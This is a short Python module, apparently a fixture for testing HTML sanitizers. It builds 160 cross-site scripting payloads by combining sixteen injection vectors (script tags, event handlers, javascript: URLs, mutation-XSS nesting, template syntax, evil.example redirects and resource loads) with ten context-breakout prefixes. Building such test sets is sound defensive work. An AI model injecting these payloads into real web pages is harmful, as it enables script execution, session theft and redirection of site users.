"""Text that has been a script somewhere: every vector within everything it might break out of."""

from itertools import product

RUNS = "window.ran=1;alert(1)"

VECTORS = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<details open ontoggle={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<iframe srcdoc='<script>{RUNS}</script>'></iframe>",
    f'<a href="javascript:{RUNS}">click</a>',
    f'<form action="javascript:{RUNS}"><button>go</button></form>',
    f'<object data="data:text/html,<script>{RUNS}</script>"></object>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example/x)}</style>",
    f"<math><mtext><mglyph><style><img src=x onerror={RUNS}></style></mglyph></mtext></math>",
    f"{{{{ ''.__class__ }}}}<b style=color:red onclick={RUNS}>{{% raw %}}",
)
OUT_OF = (
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "</style></svg>",
    "]]>",
    "\u2028&lt;\u202e",
)
PAYLOADS = tuple(f"{out}{vector}" for out, vector in product(OUT_OF, VECTORS))
"""A hundred and sixty of them."""
